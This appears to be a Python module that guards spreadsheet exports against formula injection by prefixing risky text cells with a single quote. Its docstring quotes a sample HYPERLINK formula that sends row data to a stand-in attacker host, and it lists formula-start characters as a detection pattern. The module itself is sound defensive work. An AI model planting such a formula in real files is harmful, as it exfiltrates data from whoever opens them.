"""Spreadsheet cells that stay data: no formula injection through an export.

A name or a description typed by anyone (a clerk, a resident through Open311) reaches the
CSV and xlsx files the product writes. A spreadsheet program runs a cell that starts with
``=``, ``+``, ``-`` or ``@`` as a formula (``=HYPERLINK("http://evil.example/?"&A1, "点此")``
sends the row away when clicked), and a leading tab or carriage return hides such a start. As
OWASP recommends, such a text cell is written with a single quote in front, which spreadsheet
programs read as "this is text". The full-width forms (``＝``, ``＋``, ``－``, ``＠``) are
treated the same, since some programs take them as formulas too.

Only text is touched: numbers, dates and empty values pass unchanged, and so does text that
is a plain number (``-12.5`` in a CSV, where every number is written as text), which no
program can run. Imports are not affected: what a person types in is read as it is.
"""

from __future__ import annotations

import re
from collections.abc import Iterable
from typing import Any

# What a spreadsheet program may take as the start of a formula.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")

# A plain number as text: a sign, digits (grouped by commas or not), a point and an exponent.
_NUMBER = re.compile(r"[+-]?(?:\d[\d,]*(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def neutralise(value: Any) -> Any:
    """``value`` as a spreadsheet cell that holds data only: text that a spreadsheet program
    would run as a formula gets a leading ``'``; anything else is returned unchanged."""
    if not isinstance(value, str) or not value.startswith(FORMULA_STARTS):
        return value
    if _NUMBER.fullmatch(value):
        return value
    return "'" + value


def neutralise_row(values: Iterable[Any]) -> list[Any]:
    """Every cell of a row through ``neutralise``."""
    return [neutralise(value) for value in values]
